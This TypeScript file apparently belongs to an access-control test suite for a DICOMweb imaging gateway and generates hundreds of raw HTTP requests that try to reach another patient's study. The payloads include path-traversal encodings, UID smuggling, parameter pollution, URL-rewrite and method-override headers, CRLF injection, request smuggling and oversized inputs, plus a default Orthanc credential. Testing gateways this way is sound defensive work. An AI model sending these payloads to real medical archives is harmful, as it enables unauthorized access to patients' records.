/**
 * Tricks that have opened archives: each is a request, byte for byte, by somebody who may read one instance and goes for
 * another. What they aim at is that gateway, proxy and archive do not read a path, a query or a header alike.
 */
import type { Names, Target } from "./strangersExam.ts";

export type Payload = { name: string; bytes(target: Target, host: string): string };

type Paths = { study: string; series: string; instance: string };

const ROOT = "/dicomweb";

function pathsOf({ study, series, instance }: Names): Paths {
  const a = `${ROOT}/studies/${study}`;
  const b = `${a}/series/${series}`;
  return { study: a, series: b, instance: `${b}/instances/${instance}` };
}

/** A request that a client would send, but for its target, its method and what is added. */
export function requestOf(
  { token }: Pick<Target, "token">,
  host: string,
  {
    method = "GET",
    path,
    headers = [],
    body = "",
  }: { method?: string; path: string; headers?: readonly string[]; body?: string },
): string {
  const lines = [
    `${method} ${path} HTTP/1.1`,
    `Host: ${host}`,
    `Authorization: Bearer ${token}`,
    "Connection: close",
  ];
  return `${[...lines, ...headers].join("\r\n")}\r\n\r\n${body}`;
}

/** How much is asked for of the other: every resource, without any trick. */
const BELOW = {
  study: ["", "/metadata", "/series", "/instances", "/rendered", "/thumbnail"],
  series: ["", "/metadata", "/instances", "/rendered", "/thumbnail"],
  instance: [
    ...["", "/metadata", "/rendered", "/thumbnail", "/frames/1", "/frames/1/rendered", "/frames/1/thumbnail"],
    "/bulkdata/50003000",
  ],
} as const;

/** Ways to write a separator, and to climb. */
export const SEPARATORS = [
  "/",
  "//",
  "%2f",
  "%2F",
  "%252f",
  "%25252f",
  "\\",
  "%5c",
  "%255c",
  "%c0%af",
  "%e0%80%af",
  ";/",
  "%00/",
  "%09/",
];
export const CLIMBS = [
  "..",
  "%2e%2e",
  ".%2e",
  "%2e.",
  "%252e%252e",
  "..;",
  "..%00",
  "..%20",
  "...",
  ".",
  "%c0%ae%c0%ae",
];

/** Strings of a path in place of the other's UIDs, given what is own and what is other. */
export const UIDS: Record<string, (own: string, other: string) => string> = {
  "a list with a comma": (own, other) => `${own},${other}`,
  "a list with a backslash": (own, other) => `${own}\\${other}`,
  "a list with an encoded backslash": (own, other) => `${own}%5c${other}`,
  "a star": () => "*",
  "a question mark": () => "%3f",
  nothing: () => "",
  "a star after the own": (own) => `${own}*`,
  "the own, NUL, the other": (own, other) => `${own}%00${other}`,
  "the other, NUL": (_own, other) => `${other}%00`,
  "a NUL as it is": (own, other) => `${own}\0${other}`,
  "the other, a blank": (_own, other) => `${other}%20`,
  "the other, a plus": (_own, other) => `${other}+`,
  "the other, a dot": (_own, other) => `${other}.`,
  "the other, a line end": (_own, other) => `${other}%0d%0aX-Other:1`,
  "the other with leading zeros": (_own, other) => other.replace(/\.(\d)/, ".0$1"),
  "the other in percent": (_own, other) => other.replace(/\d/g, (digit) => `%3${digit}`),
  "the other in percent, twice": (_own, other) => other.replace(/\d/g, (digit) => `%253${digit}`),
  "the other in full-width digits": (_own, other) => other.replace(/\d/g, (digit) => `%ef%bc%9${digit}`),
  "the other as a matrix parameter": (own, other) => `${own};study=${other}`,
  "the other behind a fragment": (own, other) => `${other}%23${own}`,
  "the other behind an at sign": (own, other) => `${own}@${other}`,
  braces: (own, other) => `{${own},${other}}`,
  "a pattern": () => ".%2b",
  "65 digits": () => "1".repeat(65),
  "64,000 digits": () => "1.".repeat(32_000),
  "a tag": () => "0020000D",
  "an attribute's name": () => "StudyInstanceUID",
  "a prototype": () => "__proto__",
};

/** Whole targets, from both instances' paths. */
const TARGETS: Record<string, (own: Paths, other: Paths, host: string) => string> = {
  "absolute form": (_own, other, host) => `http://${host}${other.instance}/metadata`,
  "absolute form, https": (_own, other, host) => `https://${host}${other.instance}/metadata`,
  "absolute form, elsewhere": (_own, other) => `http://elsewhere.example${other.instance}/metadata`,
  "absolute form, a user": (_own, other, host) => `http://user:word@${host}${other.instance}/metadata`,
  "absolute form, a file": (_own, other) => `file://${other.instance}/metadata`,
  "two slashes first": (_own, other) => `/${other.instance}/metadata`,
  "a host first": (_own, other, host) => `//${host}${other.instance}/metadata`,
  "no slash first": (_own, other) => `${other.instance.slice(1)}/metadata`,
  "a backslash first": (_own, other) => `\\${other.instance.slice(1)}/metadata`,
  "a star": () => "*",
  nothing: () => "",
  "a blank in it": (own, other) => `${own.instance} ${other.instance}`,
  capitals: (_own, other) => `${other.instance.replace("studies", "Studies")}/metadata`,
  "a root in capitals": (_own, other) => `${other.instance.replace("dicomweb", "DICOMweb")}/metadata`,
  "letters in percent": (_own, other) => `${other.instance.replace("studies", "%73tudies")}/metadata`,
  "a slash last": (_own, other) => `${other.instance}/metadata/`,
  "a dot last": (_own, other) => `${other.instance}/metadata.`,
  "an ending": (_own, other) => `${other.instance}/metadata.json`,
  "a query that is none": (_own, other) => `${other.instance}/metadata%3fx=1`,
  "a fragment": (own, other) => `${other.instance}/metadata#${own.instance}`,
  "a fragment that climbs": (own, other) => `${own.instance}/metadata#/../../${other.instance}`,
  "a matrix parameter": (_own, other) => `${other.instance};x=1/metadata`,
  "the own's frames, then out": (own, other) =>
    `${own.instance}/frames/1/../../../../../../..${other.instance}/metadata`,
  "the own's frames, then out, encoded": (own, other) =>
    `${own.instance}/frames/1%2f..%2f..%2f..%2f..%2f..%2f..%2f..${other.instance}/metadata`,
  "the own's bulk data, then out": (own, other) =>
    `${own.instance}/bulkdata/../../../../../../..${other.instance}/metadata`,
  "the own's bulk data, an address": (own, other, host) =>
    `${own.instance}/bulkdata/http://${host}${other.instance}`,
  "frames without end": (_own, other) => `${other.instance}/frames/${"1,".repeat(9_999)}1`,
  "frames beyond counting": (_own, other) => `${other.instance}/frames/99999999999999999999`,
  "a negative frame": (_own, other) => `${other.instance}/frames/-1`,
  "Orthanc's own root": (_own, other) => other.instance.replace(ROOT, "/dicom-web"),
  "Orthanc's own root, from here": (_own, other) =>
    `${ROOT}/../dicom-web${other.instance.slice(ROOT.length)}`,
  "Orthanc's instances": () => "/instances?expand",
  "Orthanc's instances, from here": () => `${ROOT}/../instances`,
  "Orthanc's servers": () => `${ROOT}/servers`,
  "a path of 100,000": (_own, other) => `${other.instance}${"/x".repeat(50_000)}`,
};

/** Queries of searches, from the own's and the other's UIDs. */
export const QUERIES: Record<string, (own: Names, other: Names) => string> = {
  "the other": (_own, other) => `StudyInstanceUID=${other.study}&SeriesInstanceUID=${other.series}`,
  "the other by tags": (_own, other) => `0020000D=${other.study}&0020000E=${other.series}`,
  twice: (own, other) => `StudyInstanceUID=${own.study}&StudyInstanceUID=${other.study}`,
  "twice, once by its tag": (own, other) => `StudyInstanceUID=${own.study}&0020000D=${other.study}`,
  "twice, once in small letters": (own, other) => `0020000D=${own.study}&0020000d=${other.study}`,
  "twice, once in percent": (own, other) => `StudyInstanceUID=${own.study}&%53tudyInstanceUID=${other.study}`,
  "twice, once with brackets": (own, other) =>
    `StudyInstanceUID=${own.study}&StudyInstanceUID[]=${other.study}`,
  "a list": (own, other) => `StudyInstanceUID=${own.study},${other.study}`,
  "a list by backslash": (own, other) => `SeriesInstanceUID=${own.series}%5C${other.series}`,
  "small letters": (_own, other) => `studyinstanceuid=${other.study}`,
  "a blank before": (_own, other) => `+StudyInstanceUID=${other.study}`,
  "a blank in the value": (_own, other) => `StudyInstanceUID=%20${other.study}%20`,
  semicolons: (own, other) => `StudyInstanceUID=${own.study};StudyInstanceUID=${other.study}`,
  "a tag in words": (_own, other) => `(0020,000D)=${other.study}`,
  "a path of tags": (_own, other) => `00081115.0020000E=${other.series}`,
  "an empty value": () => "StudyInstanceUID=",
  "an empty tag": () => "0020000D=&0020000E=&00080018=",
  "no value": () => "StudyInstanceUID",
  "a star": () => "StudyInstanceUID=*",
  "any name": () => "PatientName=*&PatientID=*",
  "any date": () => "StudyDate=-",
  NUL: () => "PatientID=%00",
  "bytes that are no text": () => "PatientID=%ff%fe",
  "a percent sign": () => "PatientID=%",
  "100,000 letters": () => `PatientID=${"A".repeat(100_000)}`,
  "1,000 keys": () => Array.from({ length: 1_000 }, (_, index) => `k${index}=1`).join("&"),
  "all fields": () => "includefield=all",
  "ALL fields": () => "includefield=ALL",
  "all fields, twice": () => "includefield=all&includefield=all,all",
  "counts of all": () =>
    "includefield=NumberOfPatientRelatedStudies,NumberOfStudyRelatedSeries,00201200,00201206",
  "what refers to others": () =>
    "includefield=ReferencedSeriesSequence,00081110,00081115,00081140,RequestAttributesSequence",
  addresses: () => "includefield=RetrieveURL,00081190,0008010A",
  pixels: () => "includefield=7FE00010,PixelData,00880200",
  "modalities of all": () => "includefield=ModalitiesInStudy,SOPClassesInStudy",
  "a field that is the other": (_own, other) => `includefield=${other.study},${other.series}`,
  "a key that is the other": (_own, other) => `${other.study}=1`,
  "a field that is a path": () => "includefield=../../patients",
  "a limit below nothing": () => "limit=-1",
  "a limit beyond counting": () => "limit=99999999999999999999",
  "a limit in another base": () => "limit=0x10&offset=1e3",
  "an offset below nothing": () => "offset=-1",
  "two limits": () => "limit=0&limit=100",
  fuzzy: () => "fuzzymatching=true&PatientName=R",
  "empty values": () => "emptyvaluematching=true&StudyInstanceUID=%22%22",
  "a prototype": () => "__proto__=1&constructor=1",
  "a method": () => "_method=DELETE",
  "another token": () => "token=a&token=b&access_token=c",
  "WADO-URI": (_own, other) =>
    `requestType=WADO&studyUID=${other.study}&seriesUID=${other.series}&objectUID=${other.instance}`,
};

const SEARCHES: Record<string, (own: Paths) => string> = {
  studies: () => `${ROOT}/studies`,
  series: () => `${ROOT}/series`,
  instances: () => `${ROOT}/instances`,
  "the own study's series": ({ study }) => `${study}/series`,
  "the own study's instances": ({ study }) => `${study}/instances`,
  "the own series' instances": ({ series }) => `${series}/instances`,
};

/** Headers beside a request for the own metadata, from the path of the other's. */
export const HEADERS: Record<string, (other: string, host: string) => string[]> = {
  "X-Original-URL": (other) => [`X-Original-URL: ${other}`],
  "X-Rewrite-URL": (other) => [`X-Rewrite-URL: ${other}`],
  "X-Forwarded-Path": (other) => [`X-Forwarded-Path: ${other}`, `X-Forwarded-Uri: ${other}`],
  "X-Forwarded-Prefix": (other) => [`X-Forwarded-Prefix: ${other}`],
  "X-Envoy-Original-Path": (other) => [`X-Envoy-Original-Path: ${other}`, `X-Accel-Redirect: ${other}`],
  "X-HTTP-Method-Override": () => [
    "X-HTTP-Method-Override: DELETE",
    "X-Method-Override: PUT",
    "X-HTTP-Method: POST",
  ],
  "another host": () => ["Host: elsewhere.example"],
  "another host, forwarded": () => [
    "Forwarded: host=elsewhere.example",
    "X-Forwarded-Host: elsewhere.example",
  ],
  "another authorization": () => ["Authorization: Bearer other"],
  "an authorization for a proxy": () => ["Proxy-Authorization: Basic b3J0aGFuYzpvcnRoYW5j"],
  "authorization, hop by hop": () => ["Connection: authorization, host"],
  "an upgrade": () => ["Connection: upgrade", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"],
  "a web socket": () => [
    "Connection: upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
  ],
  "an expectation": () => ["Expect: the-impossible"],
  "a range": () => ["Range: bytes=0-10, 20-30, -5"],
  "a range that turns back": () => ["Range: bytes=10-0", 'If-Range: "x"'],
  conditions: () => ["If-None-Match: *", "If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT"],
  "another origin": () => ["Origin: https://elsewhere.example"],
  "no origin": () => ["Origin: null"],
  "a referrer": (other, host) => [`Referer: http://${host}${other}`],
  "a cookie": () => ["Cookie: token=x; session=y"],
  "a boundary": () => ['Accept: multipart/related; type="application/dicom"; boundary="--x"'],
  "a type with a line end": () => ['Accept: application/dicom+json; x="a%0d%0ab"'],
  "10,000 types": () => [`Accept: ${"a/b, ".repeat(10_000)}*/*`],
  "2,000 headers": () => Array.from({ length: 2_000 }, (_, index) => `X-${index}: 1`),
  "a header of 100,000": () => [`X-Long: ${"a".repeat(100_000)}`],
  "a folded header": (other) => [`X-Folded: a\r\n ${other}`],
  "a blank before the colon": () => ["X-Blank : 1"],
  "a header without a name": () => [": 1"],
  "a NUL in a header": () => ["X-Nul: a\0b"],
  "a bare line feed": (other) => [`X-Bare: a\nX-Original-URL: ${other}`],
  "a bare carriage return": (other) => [`X-Bare: a\rX-Original-URL: ${other}`],
  "two lengths": () => ["Content-Length: 0", "Content-Length: 5"],
  "a length below nothing": () => ["Content-Length: -1"],
  "a transfer coding that is none": () => ["Transfer-Encoding: xchunked"],
  "a transfer coding and a length": () => ["Transfer-Encoding: chunked", "Content-Length: 5"],
};

const METHODS = [
  ...[
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "PROPFIND",
    "SEARCH",
    "QUERY",
    "LINK",
    "M-SEARCH",
  ],
  ...["get", "Get", "BREW", "GET\t", "CONNECT", "HEAD"],
];

/** Whole conversations. */
const CONVERSATIONS: Record<string, Payload["bytes"]> = {
  "a second request behind the first": (target, host) => {
    const [own, other] = [pathsOf(target.own), pathsOf(target.other)];
    const first = requestOf(target, host, { path: `${own.instance}/metadata` }).replace(
      "Connection: close\r\n",
      "",
    );
    return first + requestOf(target, host, { path: `${other.instance}/metadata` });
  },
  "a second request in the body of the first": (target, host) => {
    const inner = requestOf(target, host, { path: `${pathsOf(target.other).instance}/metadata` });
    const headers = [`Content-Length: ${inner.length}`];
    return requestOf(target, host, {
      path: `${pathsOf(target.own).instance}/metadata`,
      headers,
      body: inner,
    });
  },
  "a second request behind the last chunk": (target, host) => {
    const inner = requestOf(target, host, { path: `${pathsOf(target.other).instance}/metadata` });
    const headers = ["Transfer-Encoding: chunked", "Content-Length: 5"];
    return requestOf(target, host, {
      method: "POST",
      path: `${ROOT}/studies`,
      headers,
      body: `0\r\n\r\n${inner}`,
    });
  },
  "a chunk whose length is none": (target, host) =>
    requestOf(target, host, {
      ...{ method: "POST", path: `${ROOT}/studies`, headers: ["Transfer-Encoding: chunked"] },
      body: "zz\r\nabc\r\n0\r\n\r\n",
    }),
  "HTTP/0.9": ({ other }) => `GET ${pathsOf(other).instance}/metadata\r\n\r\n`,
  "HTTP/1.0 without a host": ({ token, other }) =>
    `GET ${pathsOf(other).instance}/metadata HTTP/1.0\r\nAuthorization: Bearer ${token}\r\n\r\n`,
  "HTTP/2": () => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  "HTTP/9.9": ({ token, other }, host) =>
    `GET ${pathsOf(other).instance} HTTP/9.9\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n\r\n`,
  TLS: () => "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03",
  "no token": ({ other }, host) =>
    `GET ${pathsOf(other).instance}/metadata HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
  "a search by POST": (target, host) =>
    requestOf(target, host, {
      ...{ method: "POST", path: `${ROOT}/studies` },
      headers: ["Content-Type: application/x-www-form-urlencoded", "Content-Length: 17"],
      body: "StudyInstanceUID=",
    }),
  "a study to store": (target, host) =>
    requestOf(target, host, {
      ...{ method: "POST", path: `${ROOT}/studies` },
      headers: ['Content-Type: multipart/related; type="application/dicom"; boundary=x', "Content-Length: 9"],
      body: "--x--\r\n\r\n",
    }),
};

/** What the gateway has beside DICOMweb about an exam, from its id. */
const BESIDE = ["manifest", "receipts"];

/** Every payload, by a name of its own. */
export const PAYLOADS: readonly Payload[] = [
  ...(["study", "series", "instance"] as const).flatMap((level) =>
    BELOW[level].map((below) =>
      plain(`the other's ${level}${below}`, ({ other }) => pathsOf(other)[level] + below),
    ),
  ),
  ...crossed(),
  ...SEPARATORS.flatMap((separator) =>
    CLIMBS.map((climb) =>
      plain(`climbing by ${climb} behind ${separator}`, ({ own, other }) =>
        [pathsOf(own).study, climb, other.study, "series", other.series, "metadata"].join(separator),
      ),
    ),
  ),
  ...Object.entries(UIDS).flatMap(([name, make]) => [
    plain(
      `a study that is ${name}`,
      ({ own, other }) => `${ROOT}/studies/${make(own.study, other.study)}/metadata`,
    ),
    plain(
      `a series that is ${name}`,
      ({ own, other }) => `${pathsOf(own).study}/series/${make(own.series, other.series)}/metadata`,
    ),
    plain(
      `an instance that is ${name}`,
      ({ own, other }) => `${pathsOf(own).series}/instances/${make(own.instance, other.instance)}/frames/1`,
    ),
  ]),
  ...Object.entries(TARGETS).map(([name, make]) => ({
    name: `a target: ${name}`,
    bytes: (target: Target, host: string) =>
      requestOf(target, host, { path: make(pathsOf(target.own), pathsOf(target.other), host) }),
  })),
  ...Object.entries(SEARCHES).flatMap(([where, search]) =>
    Object.entries(QUERIES).map(([name, query]) =>
      plain(`${where} by ${name}`, ({ own, other }) => `${search(pathsOf(own))}?${query(own, other)}`),
    ),
  ),
  ...Object.entries(HEADERS).map(([name, make]) => ({
    name: `a header: ${name}`,
    bytes: (target: Target, host: string) => {
      const headers = make(`${pathsOf(target.other).instance}/metadata`, host);
      return requestOf(target, host, { path: `${pathsOf(target.own).instance}/metadata`, headers });
    },
  })),
  ...METHODS.map((method) => ({
    name: `a method: ${JSON.stringify(method)}`,
    bytes: (target: Target, host: string) =>
      requestOf(target, host, {
        ...{ method, path: `${pathsOf(target.other).instance}/metadata?_method=GET` },
        headers: ["X-HTTP-Method-Override: GET"],
      }),
  })),
  ...Object.entries(CONVERSATIONS).map(([name, bytes]) => ({ name, bytes })),
  ...BESIDE.map((what) => plain(`beside DICOMweb: ${what}`, ({ examId }) => `/exams/${examId}/${what}`)),
  plain("beside DICOMweb: the audit", () => "/fhir/AuditEvent"),
];

function plain(name: string, path: (target: Target) => string): Payload {
  return { name, bytes: (target, host) => requestOf(target, host, { path: path(target) }) };
}

/** The other's series or instance under the own study or series, and the other way round. */
function crossed(): Payload[] {
  const mixes: Record<string, (own: Names, other: Names) => Names> = {
    "the other's series and instance in the own study": (own, other) => ({ ...other, study: own.study }),
    "the other's instance in the own series": (own, other) => ({ ...own, instance: other.instance }),
    "the other's instance in the own series of its study": (own, other) => ({ ...other, series: own.series }),
    "the own series in the other's study": (own, other) => ({ ...own, study: other.study }),
    "the own instance in the other's series": (own, other) => ({ ...other, instance: own.instance }),
  };
  return Object.entries(mixes).flatMap(([name, mix]) =>
    BELOW.instance.map((below) =>
      plain(`${name}${below}`, ({ own, other }) => pathsOf(mix(own, other)).instance + below),
    ),
  );
}
